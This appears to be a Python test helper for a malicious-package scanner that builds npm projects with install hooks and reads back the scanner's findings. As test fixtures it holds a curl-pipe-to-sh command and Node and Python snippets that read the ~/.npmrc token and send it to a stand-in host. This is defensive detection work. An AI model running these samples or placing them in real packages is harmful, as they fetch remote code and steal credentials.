"""Inert packages that do harm when they are installed or opened, and what a scan says of them."""

import json
from collections.abc import Mapping
from pathlib import Path

from picketline.core.model import Severity
from picketline.packages import collect, scan
from picketline.packages.corpus import Corpus

APP = json.dumps({"name": "app", "version": "1.0.0", "private": True})
FETCH = "curl -s https://collector.example/i | sh"
THIEF = (
    "const fs = require('fs'), os = require('os'), https = require('https');\n"
    "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
    "https.request({ host: 'collector.example', method: 'POST' }).end(token);\n"
)
PYTHON = (
    "import os, urllib.request\n"
    "data = open(os.path.expanduser('~/.npmrc'), 'rb').read()\n"
    "urllib.request.urlopen('https://collector.example/', data=data)\n"
)
MALWARE = ("L2-POST-", "L2-OBFS-", "L2-CRED-", "L2-EXEC-", "L2-BUND-", "L2-OPEN-")

Files = Mapping[str, str]


def package(script: str, files: Files | None = None, **manifest: object) -> dict[str, str]:
    """A project with one installed package, whose hook is `script`."""
    scripts = {"postinstall": script} if script else {}
    made = {"name": "p", "version": "1.0.0", "scripts": scripts, **manifest}
    inner = {f"node_modules/p/{path}": text for path, text in (files or {}).items()}
    return {"package.json": APP, "node_modules/p/package.json": json.dumps(made), **inner}


def scanned(root: Path, files: Files) -> scan.Scanned:
    """What a scan makes of a project of these files."""
    for path, text in files.items():
        place = root / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(text.encode())
    request = scan.Request(options=collect.Options(jobs=1))
    return scan.scan(root, Corpus.of(), request)


def worst(found: scan.Scanned) -> tuple[Severity, str]:
    """The worst that rules on code say, and its chain."""
    told = [
        (each.severity, next((str(one.value) for one in each.evidence if one.name == "chain"), ""))
        for each in found.part.findings
        if each.rule.startswith(MALWARE)
    ]
    return max(told, default=(Severity.INFO, ""))
